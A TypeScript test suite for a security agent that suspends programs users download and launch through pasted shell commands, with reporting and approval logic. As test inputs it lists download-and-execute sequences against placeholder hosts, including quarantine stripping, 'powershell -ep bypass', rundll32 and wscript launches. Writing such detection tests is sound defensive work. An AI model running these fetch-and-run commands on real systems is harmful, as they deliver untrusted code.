import { hour, minute } from '@porchlight/contract/time.ts';
import { noUnlistedPolicy, type UnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
import { expect, it } from 'vitest';
import { linked, type TestAgent } from '../testing/agent.ts';
import type { TestServer } from '../testing/server.ts';
import { until } from '../testing/until.ts';

type System = 'windows' | 'macos' | 'linux';
const shells: Record<System, string[]> = {
  windows: ['cmd.exe', 'explorer.exe'],
  macos: ['zsh', 'login', 'Terminal', 'launchd'],
  linux: ['bash', 'gnome-terminal-server', 'systemd'],
};

/** A line that a user typed or pasted into an open window. `path`: of the file of its program. */
function type({ os }: TestAgent, system: System, line: string, path?: string, parents = shells[system]) {
  const [program = '', ...args] = line.split(' ');
  const name = (path ?? program).replace(/^.*[\\/]/, '');
  return os.start({
    name,
    path: path ?? `/usr/bin/${name}`,
    program: { os: system, name },
    command: { line, args, parents, pipeline: [] },
  });
}

const suspended = ({ os }: TestAgent) => [...os.suspended].filter((pid) => [...os.running].some((one) => one.pid === pid));
const reported = (server: TestServer) => [...server.detections.values()];

async function household(change: Partial<UnlistedPolicy> = {}) {
  const { server, test } = await linked();
  const set = async (more: Partial<UnlistedPolicy>) => {
    server.setPolicy({ unlisted: { ...noUnlistedPolicy, pasted_commands: 'block', ...more } });
    await until('the policy', () => server.policy_in_force === server.policy.version);
  };
  await set(change);
  return { server, test, set };
}

it('[P12.4] a file that a shell fetched and starts in steps is suspended at its start, and nothing else of the sequence', async () => {
  const { server, test } = await household();
  type(test, 'macos', 'curl -o /tmp/update https://mac.example/u');
  type(test, 'macos', 'xattr -c /tmp/update');
  type(test, 'macos', 'chmod +x /tmp/update');
  const bystander = type(test, 'macos', '/tmp/other', '/private/tmp/other');
  const started = type(test, 'macos', '/tmp/update', '/private/tmp/update');
  await until('the report', () => reported(server).length === 1);
  expect(suspended(test)).toEqual([started.pid]);
  expect([...test.os.running]).toContain(bystander);
  expect(reported(server)).toMatchObject([{ category: 'PastedCommand', blocked: true, details: 'mac.example', start: 'person' }]);
  expect(JSON.stringify(server.sent)).not.toMatch(/tmp|update/);
});

it.each<[System, string, string, string?]>([
  ['macos', 'curl -fsSLO https://mac.example/a/update', './update', '/Users/ann/update'],
  ['macos', 'curl -so/tmp/.u mac.example/u', 'zsh /tmp/.u'],
  ['macos', 'curl --output=/tmp/.u https://mac.example/u', 'osascript /tmp/.u'],
  ['macos', 'wget https://mac.example/u.py?x=1', 'python3 u.py'],
  ['linux', 'wget -qO /tmp/a https://tux.example/i', '/tmp/a', '/tmp/a'],
  ['linux', 'aria2c -o run https://tux.example/i', './run', '/home/ann/run'],
  ['linux', 'curl -o a https://tux.example/i -o b https://tux.example/j', 'bash ./b'],
  ['linux', 'wget https://tux.example/install.sh', 'bash -e install.sh'],
  ['windows', 'curl.exe -L -o %TEMP%\\A.exe https://win.example/a', 'a', 'C:\\Users\\Ann\\AppData\\Local\\Temp\\%temp%\\a.exe'],
  ['windows', 'curl -O https://win.example/fix.ps1', 'powershell.exe -ep bypass -f .\\FIX.ps1'],
  ['windows', 'curl -o C:\\Users\\Public\\x.dll https://win.example/x', 'rundll32.exe C:\\Users\\Public\\x.dll,Start'],
  ['windows', 'curl -o x.js https://win.example/x', 'wscript.exe //b x.js'],
])('[P12.4] on %s "%s" and then "%s" is suspended, and the same start with no fetch before it runs', async (system, fetch, start, path) => {
  const { server, test } = await household();
  type(test, system, start, path);
  type(test, system, fetch);
  const waiting = type(test, system, start, path);
  await until('the report', () => reported(server).length === 1);
  expect(suspended(test)).toEqual([waiting.pid]);
});

it('[P12.4] what a start has to do with no fetch of the same user runs, and the fetched file is suspended beside it', async () => {
  const { server, test } = await household();
  const run = () => type(test, 'linux', './tool', '/home/ann/tool');
  const fetch = 'curl -o tool https://tux.example/tool';
  for (const quiet of [
    () => type(test, 'linux', 'curl https://tux.example/tool'),
    () => type(test, 'linux', 'curl -o tool http://192.168.1.4/tool'),
    () => type(test, 'linux', 'curl -o /dev/null https://tux.example/tool'),
    () => type(test, 'linux', 'curl -o - https://tux.example/tool'),
    () => type(test, 'linux', 'curl -o notes.txt https://tux.example/tool'),
    () => type(test, 'linux', fetch, undefined, ['make', ...shells.linux]),
    () => type(test, 'linux', fetch, undefined, ['bash', ...shells.linux]),
  ]) {
    quiet();
    run();
  }
  type(test, 'linux', fetch);
  // A program with this name was there before, and other software starts the new one.
  test.os.filesChanged.set('/usr/local/bin/tool', test.clock.now.getTime() - hour);
  type(test, 'linux', 'tool', '/usr/local/bin/tool');
  type(test, 'linux', './tool', '/home/ann/tool', ['make', ...shells.linux]);
  type(test, 'linux', 'less tool', '/usr/bin/less');
  type(test, 'linux', 'python3 convert.py tool');
  expect(suspended(test)).toEqual([]);
  const fetched = run();
  await until('the report', () => reported(server).length === 1);
  expect(suspended(test)).toEqual([fetched.pid]);
  test.clock.now = new Date(test.clock.now.getTime() + 11 * minute);
  run();
  expect(suspended(test)).toEqual([fetched.pid]);
});

it('[P12.4] a yes is about what was fetched: the same steps run again, and another download to the same place is asked about', async () => {
  const { server, test, set } = await household();
  const steps = (host: string) => {
    type(test, 'macos', `curl -o /tmp/update https://${host}/u`);
    return type(test, 'macos', '/tmp/update', '/private/tmp/update');
  };
  const first = steps('mac.example');
  await until('the report', () => reported(server).length === 1);
  const identifier = reported(server)[0]?.identifier ?? '';
  const answer = (what: 'yes' | 'no') => ({ answers: [{ identifier, answer: what, until: new Date(Date.now() + hour).toISOString() }] });
  await set(answer('yes'));
  await until('the start to go on', () => suspended(test).length === 0);
  steps('mac.example');
  expect(suspended(test)).toEqual([]);
  const other = steps('other.example');
  await until('the other to wait', () => suspended(test).length === 1);
  expect(suspended(test)).toEqual([other.pid]);
  // What a yes had let run is found by its fetch also later.
  test.clock.now = new Date(test.clock.now.getTime() + 20 * minute);
  await set(answer('no'));
  await until('its end', () => ![...test.os.running].includes(first));
  expect([...test.os.running]).toContain(other);
});
